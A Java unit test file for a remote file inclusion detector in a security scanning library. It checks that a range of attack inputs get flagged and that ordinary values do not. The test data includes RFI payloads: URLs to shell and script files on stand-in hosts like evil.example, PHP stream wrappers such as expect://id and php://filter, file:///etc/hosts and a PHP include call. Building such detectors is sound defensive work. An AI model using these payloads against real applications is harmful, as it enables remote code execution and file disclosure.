package dev.bulwark.core.internal.rfi;

import static dev.bulwark.core.internal.rules.Scans.header;
import static dev.bulwark.core.internal.rules.Scans.json;
import static dev.bulwark.core.internal.rules.Scans.mebibyteOf;
import static dev.bulwark.core.internal.rules.Scans.path;
import static dev.bulwark.core.internal.rules.Scans.pathSegment;
import static dev.bulwark.core.internal.rules.Scans.query;
import static dev.bulwark.core.internal.rules.Scans.xml;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.Level;
import dev.bulwark.core.internal.rules.ScanTarget;
import dev.bulwark.core.internal.rules.Scans;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RemoteFileInclusionDetectorTest {

    private final RemoteFileInclusionDetector detector = new RemoteFileInclusionDetector();

    private List<String> standard(ScanTarget target) {
        return Scans.standard(detector, target);
    }

    @Test
    void detectsUrlWithIpv4Host() {
        assertThat(standard(query("src", "http://203.0.113.7/shell.php"))).containsExactly("RFI-IP-HOST");
    }

    @Test
    void detectsUrlWithIpv6Host() {
        assertThat(standard(query("https://[2001:db8::1]/x.php"))).containsExactly("RFI-IP-HOST");
        assertThat(standard(query("https://2001:db8:0:1::29c8/x.php"))).containsExactly("RFI-IP-HOST");
    }

    @Test
    void detectsTrailingQuestionMarkThatCutsOffTheSuffix() {
        assertThat(standard(query("page", "https://evil.example/shell.txt?"))).isNotEmpty();
        assertThat(standard(query("x", "https://evil.example/a?"))).containsExactly("RFI-QUERY-TRUNCATION");
    }

    @Test
    void detectsBareSchemeFollowedByQuestionMarks() {
        assertThat(standard(query("http?"))).containsExactly("RFI-QUERY-TRUNCATION");
        assertThat(standard(query("ftp??"))).containsExactly("RFI-QUERY-TRUNCATION");
    }

    @Test
    void detectsNulAfterUrl() {
        assertThat(standard(query("http://evil.example/a\u0000"))).containsExactly("RFI-QUERY-TRUNCATION");
    }

    @Test
    void detectsPayloadFileOnForeignHost() {
        assertThat(standard(query("x", "http://evil.example/c99.txt"))).containsExactly("RFI-PAYLOAD-FILE");
        assertThat(standard(query("x", "https://evil.example/run.sh"))).containsExactly("RFI-PAYLOAD-FILE");
    }

    @Test
    void detectsFtpUrl() {
        assertThat(standard(query("ftp://files.example/pub/x"))).containsExactly("RFI-FTP-URL");
    }

    /**
     * PHP includes what an FTP server serves as it is, with no web server to run it first, so any
     * file there can be the payload: a text file or a picture as much as a script.
     */
    @Test
    void detectsFtpUrlToAnyKindOfFile() {
        assertThat(standard(query("ftp://files.example/pub/readme.txt"))).containsExactly("RFI-FTP-URL");
        assertThat(standard(query("ftp://files.example/avatar.jpg"))).containsExactly("RFI-FTP-URL");
    }

    @Test
    void detectsUrlInParameterNamedLikeAPath() {
        assertThat(standard(query("mosConfig_absolute_path", "https://evil.example"))).containsExactly("RFI-PATH-PARAMETER");
        assertThat(standard(query("_CONF[path]", "https://evil.example"))).containsExactly("RFI-PATH-PARAMETER");
        assertThat(standard(json("/settings/templateDir", "https://evil.example/t"))).containsExactly("RFI-PATH-PARAMETER");
    }

    @Test
    void allowsUrlInParameterNamedLikeAUrl() {
        assertThat(standard(query("returnUrl", "https://shop.example/cart"))).isEmpty();
        assertThat(standard(query("page_url", "https://shop.example/p/1"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"php://filter/convert.base64-encode/resource=index.php", "phar://uploads/a.jpg/x",
        "file:///etc/hosts", "file:/c:/boot.ini", "expect://id", "data://text/plain;base64,SGVsbG8=",
        "zip://archive.zip#a.php", "jar:http://evil.example/a.jar!/", "jar:file:/app/a.jar!/x", "url:file:///x",
        "netdoc:///etc/hosts", "compress.zlib://file.gz", "local_file:///x"})
    void detectsStreamWrappers(String value) {
        assertThat(standard(query(value))).containsExactly("RFI-WRAPPER-SCHEME");
    }

    @Test
    void detectsUncPathToRemoteHost() {
        assertThat(standard(query("file", "\\\\203.0.113.9\\share\\x.php"))).containsExactly("RFI-UNC-PATH");
        assertThat(standard(query("file", "\\\\files.evil.example\\a"))).containsExactly("RFI-UNC-PATH");
    }

    @Test
    void allowsUncPathOnTheIntranet() {
        assertThat(standard(query("file", "\\\\fileserver\\reports\\q3.xlsx"))).isEmpty();
    }

    @Test
    void ignoresUrlsMentionedInText() {
        assertThat(standard(Scans.form("comment", "Open file:///projects/app to check, or http://203.0.113.5/x.txt"))).isEmpty();
        assertThat(standard(query("q", "license at http://www.gnu.org/licenses/gpl.txt"))).isEmpty();
    }

    @Test
    void detectsIncludeCallWithUrl() {
        assertThat(Scans.at(Level.BASIC, detector, query("<?php include('http://evil.example/x'); ?>")))
                .containsExactly("RFI-INCLUDE-CALL");
    }

    @Test
    void detectsUrlEmbeddedInRequestPath() {
        assertThat(standard(path("/proxy/https://evil.example/"))).containsExactly("RFI-URL-IN-PATH");
        assertThat(standard(pathSegment("https:"))).containsExactly("RFI-URL-IN-PATH");
    }

    @Test
    void seesThroughPercentEncodingInXml() {
        assertThat(standard(xml("ftp%3A%2F%2F198.51.100.1"))).containsExactly("RFI-IP-HOST");
    }

    @Test
    void ignoresRefererCarryingAnIpAddress() {
        assertThat(standard(header("Referer", "http://10.1.2.3/app/page"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://www.example.com/checkout.html?affiliate=x&doc=cart",
        "https://cdn.example.net/img/a.png", "https://shop.example/products/list.php?id=3",
        "see https://docs.example.org/guide", "mailto:alice@example.com", "file: report.pdf", "Note: bring files",
        "12:30:45", "data:image/png;base64,iVBORw0KGgo=", "ftp", "http", "https", "php is fun",
        "https://example.com/search?q=a+b&page=2"})
    void ignoresOrdinaryValues(String value) {
        assertThat(standard(query("dl", value))).isEmpty();
    }

    @Test
    void reportsPlainUrlInNonUrlParameterOnlyAtStrict() {
        ScanTarget target = query("x", "https://shop.example/");
        assertThat(standard(target)).isEmpty();
        assertThat(Scans.at(Level.STRICT, detector, target)).containsExactly("RFI-OFF-SITE-URL");
    }

    @ParameterizedTest
    @ValueSource(strings = {"http:", "http://a", "a:", "compress.zlib:", "include(", "http://a/", "file:/"})
    void finishesQuicklyOnRepetitiveColons(String unit) {
        ScanTarget target = query(mebibyteOf(unit));
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(target));
    }
}
